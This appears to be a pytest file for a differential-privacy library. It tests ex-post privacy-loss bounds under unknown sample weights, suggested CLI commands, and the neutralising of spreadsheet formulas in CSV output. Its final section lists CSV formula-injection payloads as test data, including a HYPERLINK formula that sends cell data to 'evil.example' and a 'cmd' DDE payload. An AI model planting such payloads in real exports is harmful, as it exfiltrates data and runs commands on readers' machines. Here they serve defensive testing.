"""What the third round of attacks and new users found, item by item; each test is one line of the list.

Figures:   1 unknown weights   2 next steps that lose options   3 totals if the number of plans is fixed
Doors:     5 formulas in spreadsheets
"""

import csv
import inspect
import json
import math
import re
import shlex
import time
from pathlib import Path

import numpy as np
import pages
import pandas as pd
import pytest
from grids import grid
from scipy import stats
from scipy.integrate import quad
from ward import refused, run, write_csv

import expost
from expost.cli.commands import fit as fit_command, plan as plan_command
from expost.cli.private_files import inert
from expost.data.weights import Weighting
from expost.exceptions import DomainError
from expost.page import render
from expost.page.introduction import LANGUAGES

SOURCE = Path(expost.__file__).parent
DOCS = Path(__file__).parent.parent.parent / "docs"
WEIGHTED = {
    "capped": Weighting(4.0, (0.3, 2.5)),
    "hinge": Weighting(2.0),
    "huber": Weighting(5.0),
    "squared": Weighting(1.0),
    "softmax-capped": Weighting(3.0, (0.5, 1.0, 2.0)),
}
AXES = WEIGHTED, pages.KINDS, [True, False, None]


def takes_long(loss, kind, member, noise=(4.0, 3.0)):
    """Python takes longest over several classes: one cell of them is quick."""
    return loss.startswith("softmax") and (kind, member, noise) != ("dependent", True, (4.0, 3.0))


def weighed_people(loss, kind, count, **options):
    """A weighted publication and people who read it."""
    publication = pages.published(loss, kind, weighting=WEIGHTED[loss], **options)
    rng = np.random.default_rng(21)
    answers = pages.people(rng, count, publication.domain, publication.loss)
    return publication, *pages.as_table(answers, publication.domain)


# Figures


# The model's noise and the gradient's: the last gradient is so exact that terms cancel.
NOISE = [(4.0, 3.0), (0.7, 3.0), (4.0, 0.1)]


@pytest.mark.long
@pytest.mark.parametrize(("loss", "kind", "member", "noise"), grid(*AXES, NOISE, slow=takes_long))
def test_01a_what_holds_for_an_unknown_weight_holds_for_every_weight(loss, kind, member, noise):
    """The interval covers that of every weight, and no cost or total is larger."""
    options = {"confidence": 0.9, "member": member}
    publication, X, y = weighed_people(loss, kind, 25, sigma=noise[0], sigma_gradient=noise[1])
    unknown = publication.bounds(X, y, **options)
    for weight in np.linspace(0.0, publication.weighting.max_weight, 6):
        known = publication.bounds(X, y, sample_weight=np.full(len(y), weight), **options)
        assert np.all(unknown.lower <= known.lower)
        for name in ("upper", "report_cost", "total"):
            assert np.all(getattr(unknown, name) >= getattr(known, name) * (1.0 - 1e-12))
    # No more than that: it is the total of the largest weight, but for outsiders without statistics.
    if publication.plan.scales.releases_statistics or member is not False:
        np.testing.assert_allclose(unknown.total, known.total, rtol=1e-11)


@pytest.mark.parametrize(("loss", "kind", "member"), grid(*AXES, together=1, slow=takes_long))
def test_01b_a_total_rises_with_the_weight(loss, kind, member):
    publication, X, y = weighed_people(loss, kind, 25)
    another = pages.published(loss, kind, weighting=WEIGHTED[loss], seed=5)
    weights = [np.full(len(y), one) for one in np.linspace(0.0, publication.weighting.max_weight, 6)]
    alone = [publication.bounds(X, y, sample_weight=one, member=member).total for one in weights]
    several = [publication, another]
    together = [expost.total(several, X, y, sample_weight=one, member=member) for one in weights]
    for totals in (alone, together):
        assert np.all(np.diff(totals, axis=0) >= 0.0)
    unknown = expost.total(several, X, y, member=member)
    assert np.all(unknown >= together[-1] * (1.0 - 1e-12))


def test_01c_an_upper_end_may_fall_with_the_weight_so_the_largest_is_not_enough():
    """Beside an exact gradient the terms cancel: what is read at the largest weight is too low for some."""
    publication, X, y = weighed_people("huber", "dependent", 200, sigma=4.0, sigma_gradient=0.1)
    most = publication.weighting.max_weight
    small, large = (
        publication.bounds(X, y, sample_weight=np.full(len(y), weight), member=True).upper
        for weight in (0.4 * most, most)
    )
    assert np.mean(small > 1.05 * large) > 0.02
    assert np.all(publication.bounds(X, y, member=True).upper >= small)


SURVEY = expost.Domain(
    features=(expost.Number(name="age", low=0, high=100), expost.YesNo(name="smoker")),
    label=expost.ClassLabel(name="ill", classes=("no", "yes")),
)


@pytest.fixture(scope="module")
def survey(tmp_path_factory):
    """A folder with a survey, its domain and a publication with weights up to 5; and the exact losses."""
    folder, rng = tmp_path_factory.mktemp("survey"), np.random.default_rng(4)
    table = pd.DataFrame({"age": rng.uniform(0, 100, 600).round(), "smoker": rng.choice(["yes", "no"], 600)})
    table["ill"] = np.where(table.age + 30 * (table.smoker == "yes") > rng.normal(70, 20, 600), "yes", "no")
    table["w"] = np.minimum(rng.lognormal(0.4, 0.8, 600), 5.0).round(3)
    table.to_csv(folder / "survey.csv", index=False)
    (folder / "domain.toml").write_text(SURVEY.to_toml(), encoding="utf-8")
    model = expost.LogisticRegression(epsilon=4.0, domain=SURVEY, max_weight=5.0, random_state=2)
    model.fit(table, sample_weight=table["w"].to_numpy()).publication_.save(folder / "p.json")
    return folder, model, table


def test_01d_nobody_who_does_not_know_her_weight_lost_more_than_she_reads(survey):
    _, model, table = survey
    exact = model.ex_post_losses(table, sample_weight=table["w"].to_numpy())
    # At 1e-9 for each of 600 records, a false alarm has probability 6e-7.
    read = model.publication_.bounds(table, member=True, confidence=1 - 1e-9)
    assert np.all((read.lower <= exact) & (exact <= read.upper))
    as_one = model.publication_.bounds(table, member=True, sample_weight=np.ones(600))
    assert np.mean((exact > as_one.upper)[table["w"] > 2.0]) > 0.05  # what was read before


def test_01e_exact_losses_of_a_weighted_fit_need_the_weights(survey):
    folder, model, table = survey
    with pytest.raises(DomainError, match="`sample_weight` must be given, because the fit had weights"):
        model.ex_post_losses(table)
    told = run("losses", folder / "p.json", folder / "survey.csv", "-o", folder / "private.csv")
    assert refused(told, "Name the column that was fitted: --weight COLUMN")
    assert not (folder / "private.csv").exists()


def test_01f_the_command_line_reads_an_unknown_weight_in_one_and_in_several(survey):
    folder, model, table = survey
    asked = ("bounds", folder / "p.json", folder / "survey.csv", "--json", "--member", "yes")
    told = run(*asked)
    assert "without --weight COLUMN the figures hold whatever these were" in " ".join(told.stderr.split())
    expected = model.publication_.bounds(table, member=True)
    figures = json.loads(told.stdout)["publications"][0]
    for name in ("lower", "upper", "total"):
        np.testing.assert_allclose(figures[name], getattr(expected, name), rtol=1e-12)
    assert set(figures["lower"]) == {0.0}
    plain = expost.LogisticRegression(domain=SURVEY).fit(table).publication_
    plain.save(folder / "plain.json", overwrite=True)
    told = run("bounds", folder / "p.json", folder / "plain.json", *asked[2:])
    both = expost.total([model.publication_, plain], table, member=True)
    np.testing.assert_allclose(json.loads(told.stdout)["total"], both, rtol=1e-12)


def test_01g_a_largest_weight_without_weights_is_refused(survey):
    folder, *_ = survey
    files = (folder / "domain.toml", folder / "survey.csv")
    for command in ("check", "fit"):
        assert refused(run(command, *files, "--max-weight", 5), "Name their column with --weight")


def test_01h_publications_without_weights_are_read_as_before():
    publication = pages.published("capped", "dependent", weighting=Weighting(class_weight=(0.3, 1.0)))
    answers = pages.people(np.random.default_rng(2), 50, publication.domain, publication.loss)
    X, y = pages.as_table(answers, publication.domain)
    ones = publication.bounds(X, y, sample_weight=np.ones(50))
    for one, other in zip(publication.bounds(X, y).figures, ones.figures, strict=True):
        np.testing.assert_array_equal(one, other)


# How a table is written that needs every key of `[table]`, and what `init` is told about it.
DIALECT = {
    "delimiter": ";",
    "decimal": ",",
    "encoding": "cp1252",
    "missing_words": ["k. A.", "-"],
    "dates": "DD.MM.YYYY",
}
TABLE_PART = """
[table]
delimiter = ";"
decimal = ","
encoding = "cp1252"
missing_words = ["k. A.", "-"]
dates = "DD.MM.YYYY"
"""
ADMISSIONS = """
[[features]]
name = "größe"
kind = "number"
low = 0
high = 250
missing = 170

[[features]]
name = "seit"
kind = "date"
low = 2000-01-01
high = 2026-01-01

[label]
name = "ill"
kind = "classes"
classes = ["no", "yes"]
"""


def spelled(**options):
    """Options as they are typed."""
    return [
        word
        for name, values in options.items()
        for value in (values if isinstance(values, list) else [values])
        for word in ([f"--{name.replace('_', '-')}"] + ([] if value is True else [str(value)]))
    ]


def suggested(told, start):
    """The suggested commands that begin so, as the words that a shell makes of them."""
    lines = [line[line.index(start) :] for line in told.splitlines() if start in line]
    return [shlex.split(line)[1:] for line in lines]


@pytest.fixture
def admissions(tmp_path, monkeypatch):
    """A table whose every cell needs `[table]`, in a folder with an awkward name, which is entered."""
    folder = tmp_path / "the ward's [new] tables"
    folder.mkdir()
    monkeypatch.chdir(folder)
    rng = np.random.default_rng(8)
    lines = ["größe;seit;ill;gewicht;id"]
    for place in range(300):
        height = "k. A." if place % 50 == 0 else f"{rng.uniform(140, 200):.1f}".replace(".", ",")
        day = f"{rng.integers(1, 28):02}.0{rng.integers(1, 9)}.20{rng.integers(10, 25)}"
        weight = f"{rng.uniform(0, 4):.2f}".replace(".", ",")
        lines.append(f"{height};{day};{rng.choice(['no', 'yes'])};{weight};P{place}")
    for name in ("a table.csv", "new.csv"):
        (folder / name).write_text("\n".join(lines) + "\n", encoding="cp1252")
    (folder / "the domain.toml").write_text(TABLE_PART + ADMISSIONS, encoding="utf-8")
    return folder


FILES = ("the domain.toml", "a table.csv")
WEIGHTS = {"weight": "gewicht", "max_weight": 4}


@pytest.mark.long
def test_02a_from_a_check_to_the_losses_by_copying_what_is_suggested(admissions, remembered):
    """The weighted model is the one that is fitted, and its losses are those of its weights."""
    checked = run("check", *FILES, *spelled(**WEIGHTS, id="id"))
    assert checked.exit_code == 0, checked.output
    (fit,) = suggested(checked.stdout, "expost fit ")
    fitted = run(*fit)
    assert fitted.exit_code == 0, fitted.output
    publication = expost.Publication.load("publication.json")
    assert publication.weighting.max_weight == publication.release.plan.max_weight == 4.0
    (page,), (predict,), (losses,) = (
        suggested(fitted.stdout, f"expost {name} ") for name in ("page", "predict", "losses")
    )
    for command in (page, predict, losses):
        told = run(*command)
        assert told.exit_code == 0, told.output
    written = pd.read_csv("private-losses.csv", sep=";", decimal=",")
    assert list(written["id"]) == [f"P{place}" for place in range(300)]
    typed = ("losses", "publication.json", FILES[1], *spelled(weight="gewicht", domain=FILES[0]), "--json")
    np.testing.assert_allclose(written["ex_post_loss"], json.loads(run(*typed).stdout)["losses"], rtol=1e-12)


# A value for every option of `fit`; one that is added later must be added here.
OPTIONS_OF_FIT = {
    **WEIGHTS,
    "output": "it's.json",
    "losses": "private its.csv",
    "test": "new.csv",
    "epsilon": 0.75,
    "delta": 1e-7,
    "models": 2,
    "report": "leverage",
    "l2": 30,
    "l1": 0.5,
    "cap": 0.8,
    "split": 0.97,
    "loss": "logistic",
    "rows_at_most": 20000,
    "id": "id",
    "ledger": "the ledger.db",
    "account": "ward & co",
    "note": "the 'first' $HOME",
    "yes": True,
    "force": True,
}
# What a table with classes, one machine, no device and a split do not take.
ELSEWHERE = {"level", "threshold", "recalibrate", "dask", "device", "as_json", "dry_run"}


@pytest.mark.long
def test_02b_a_dry_run_suggests_the_same_fit_with_every_option(admissions, remembered):
    taken = {name.replace("identifier", "id") for name in inspect.signature(fit_command).parameters}
    assert taken - {"domain", "table"} == set(OPTIONS_OF_FIT) | ELSEWHERE
    book = expost.Ledger("the ledger.db")
    book.account("ward & co", epsilon=1.0, delta=1e-6)
    tried = run("fit", *FILES, *spelled(**OPTIONS_OF_FIT), "--dry-run")
    assert tried.exit_code == 0, tried.output
    assert not book.account("ward & co").entries
    (fit,) = suggested(tried.stdout, "expost fit ")
    fitted = run(*fit)
    assert fitted.exit_code == 0, fitted.output
    (entry,) = book.account("ward & co").entries
    publication = expost.Publication.load("it's.json")
    assert (entry.note, entry.sha256) == ("the 'first' $HOME", publication.sha256)
    shared = {
        name: OPTIONS_OF_FIT[name]
        for name in inspect.signature(plan_command).parameters
        if name in OPTIONS_OF_FIT
    }
    planned = json.loads(run("plan", FILES[0], *spelled(**shared), "--json").stdout)
    assert planned.pop("corners")["l1"] == publication.corners.l1 == OPTIONS_OF_FIT["l1"]
    assert publication.release.plan.fields() == planned
    assert len(pd.read_csv("private its.csv")) == 300


def test_02c_a_refused_fit_suggests_a_check_of_the_same_table(admissions):
    table = admissions / FILES[1]
    table.write_text(table.read_text("cp1252").replace(";yes;", ";perhaps;"), encoding="cp1252")
    typed = spelled(**WEIGHTS, id="id", report="leverage")
    told = run("fit", *FILES, *typed)
    (check,) = suggested(told.stderr, "expost check ")
    checked = run(*check)
    assert refused(checked, "the table does not fit the domain")
    problems = pd.read_csv("private-problems.csv", sep=";")
    assert set(problems["column"]) == {"ill"}
    assert problems["id"].str.startswith("P").all()


def test_02d_init_suggests_a_check_that_needs_no_option(admissions):
    told = run("init", FILES[1], *spelled(label="ill", **DIALECT))
    (check,) = suggested(told.stderr, "expost check ")
    assert check == ["check", "domain.toml", FILES[1]]
    filled = told.stdout[told.stdout.index("[table]") :].split("\n\n")[0] + "\n" + ADMISSIONS
    (admissions / "domain.toml").write_text('ignore = ["gewicht", "id"]\n' + filled, encoding="utf-8")
    assert run(*check).exit_code == 0


def test_02e_a_file_whose_name_looks_like_an_option_is_still_a_file(admissions):
    (admissions / "-o.csv").write_bytes((admissions / FILES[1]).read_bytes())
    told = run("check", FILES[0], "./-o.csv")
    (fit,) = suggested(told.stdout, "expost fit ")
    assert run(*fit).exit_code == 0


def test_03a_a_curator_who_may_stop_fails_more_often_than_a_total_says():
    """Two small publications at 95%, the second only if the bound of the first holds: 5.7% failures.

    With little to lose a bound is about the noise alone: |N| for one publication and |N + M| for both.
    """
    one, both = stats.chi(1).isf(0.05), math.sqrt(2.0) * stats.chi(2).isf(0.05)

    def broken(noise):
        return stats.norm.pdf(noise) * (stats.norm.sf(both - noise) + stats.norm.cdf(-both - noise))

    stopping = 0.05 + quad(broken, -one, one)[0]
    assert stopping == pytest.approx(0.057, abs=5e-4)
    assert quad(broken, -12.0, 12.0)[0] < 0.05  # the number was fixed in advance


def shown(publications, **options):
    """What a page shows, without the sentences that its scripts may say."""
    return render(publications, **options).partition('id="numbers"')[0]


@pytest.mark.long
def test_03b_every_total_of_several_says_what_has_to_be_fixed_in_advance():
    several = [pages.published("logistic", "independent"), pages.published("hinge", "adaptive", seed=4)]
    sayings = {
        "mathematics.md": "plans and their number must be fixed in advance",
        "limitations.md": "plans and their number were fixed in advance",
        "expost.total": "plans and their number were fixed in advance",
        "en": "if the plans and their number were fixed in advance",
        "de": "wenn die Pläne und ihre Anzahl vorher feststanden",
        "fr": "si les plans et leur nombre étaient fixés d’avance",
        "es": "si los planes y su número estaban fijados de antemano",
    }
    told = {name: (DOCS / name).read_text(encoding="utf-8") for name in ("mathematics.md", "limitations.md")}
    told |= {"expost.total": expost.total.__doc__}
    told |= {language: shown(several, language=language) for language in LANGUAGES}
    assert told.keys() == sayings.keys()
    for name, text in told.items():
        assert sayings[name] in " ".join(text.split()), name
    assert sayings["en"] not in shown(several[:1])


# Doors

# What a spreadsheet computes, or may compute once the cell is cut at another separator.
LIVE = [
    "\N{ZERO WIDTH SPACE}=1",
    "\x01=1",
    '=HYPERLINK("http://evil.example/?"&B2)',
    "=1+1",
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    '"=1+1',
    "x;=1+1",
    "x\n=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
]
PLAIN_TEXTS = ["P-1", "a=b", "-3.5", "+1,5", "-1e-3", "x;-2", "mail@clinic.example", "", "'=1"]


def starts_a_formula(text):
    """Whether a cell computes something where a comma, a semicolon, a tab or a line's end starts a cell."""
    parts = [part.lstrip(' \r\n\t"\0\x01\u200b\ufeff') for part in re.split("[;\t\r\n]", text)]
    signs = [part for part in parts if part.startswith(("=", "@", "+", "-", "\N{FULLWIDTH EQUALS SIGN}"))]
    return text.startswith(("\t", "\r", "\n")) or any(not is_number(part) for part in signs)


def is_number(text):
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True


def live_cells(path):
    """The cells of a CSV file that a spreadsheet would compute, its first line included."""
    with open(path, newline="", encoding="utf-8") as file:
        return [cell for row in csv.reader(file) for cell in row if starts_a_formula(cell)]


def test_05a_the_texts_of_the_list_are_live_and_come_out_inert():
    for text in LIVE:
        assert starts_a_formula(text)
        assert not starts_a_formula(inert(text))
        assert inert(inert(text)) == inert(text)
        assert "'" in inert(text)
        assert inert(text).replace("'", "") == text.replace("'", "")
    for text in PLAIN_TEXTS:
        assert not starts_a_formula(text)
        assert inert(text) == text


def test_05b_a_long_cell_is_no_bomb():
    for text in ("-" + "1" * 10**6 + "x", '"' * 10**6, ";" * 10**5, "-" + "1." * 10**6 + "="):
        begun = time.process_time()  # others work on the machine too
        inert(text)
        assert time.process_time() - begun < 1.0


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A table whose ids, classes and names of columns are formulas, in a file with such a name."""
    folder = tmp_path_factory.mktemp("hostile")
    classes, name, identifier = ["=1+1", "-2+3"], "@age", "+id"
    rng = np.random.default_rng(5)
    ids = [LIVE[place % len(LIVE)] for place in range(240)]
    rows = [[rng.uniform(0, 1), classes[rng.integers(2)], ids[place]] for place in range(240)]
    write_csv(folder / "=cmd.csv", rows, [name, "=y", identifier])
    write_csv(folder / "-wrong.csv", [["=2", *row[1:]] for row in rows], [name, "=y", identifier])
    domain = expost.Domain(
        features=(expost.Number(name=name, low=0, high=1),),
        label=expost.ClassLabel(name="=y", classes=tuple(classes)),
    )
    (folder / "domain.toml").write_text(domain.to_toml(), encoding="utf-8")
    fitted = run(
        "fit", folder / "domain.toml", folder / "=cmd.csv", "-o", folder / "p.json",
        "--losses", folder / "private-fit.csv", "--id", "+id",
    )  # fmt: skip
    assert fitted.exit_code == 0, fitted.output
    return folder, ids


@pytest.mark.parametrize("command", ["fit", "losses", "bounds", "predict", "check"])
def test_05c_no_file_that_a_command_writes_has_a_formula(hostile, command):
    folder, ids = hostile
    out = folder / f"private-{command}.csv"
    asked = [folder / "p.json", folder / "=cmd.csv", "-o", out]
    if command == "check":
        asked = [folder / "domain.toml", folder / "-wrong.csv", "--problems", out]
    if command != "fit":
        run(command, *asked, "--id", "+id")
    assert live_cells(out) == []
    with open(out, newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert len(rows) == 241
    place = rows[0].index("'+id")
    assert [row[place] for row in rows[1:]] == [inert(one) for one in ids]


def test_05d_parquet_has_the_texts_as_they_are(hostile):
    folder, ids = hostile
    out = folder / "private-losses.parquet"
    assert run("losses", folder / "p.json", folder / "=cmd.csv", "-o", out, "--id", "+id").exit_code == 0
    assert pd.read_parquet(out)["+id"].tolist() == ids


@pytest.mark.long
def test_05e_the_demonstration_writes_no_formula(tmp_path):
    assert run("demo", "--out", tmp_path / "demo").exit_code == 0
    for path in (tmp_path / "demo" / "private").glob("*.csv"):
        assert live_cells(path) == []


def test_05f_every_writer_of_csv_goes_through_the_same_function():
    """Who writes a CSV file makes its texts inert."""
    writers = [
        path
        for path in SOURCE.rglob("*.py")
        if re.search(r"csv\.writer|CSVWriter|to_csv|write_csv|DictWriter", path.read_text(encoding="utf-8"))
    ]
    assert {path.name for path in writers} == {"private_files.py", "demonstration.py"}
    for path in writers:
        assert "(inert_row" in path.read_text(encoding="utf-8")
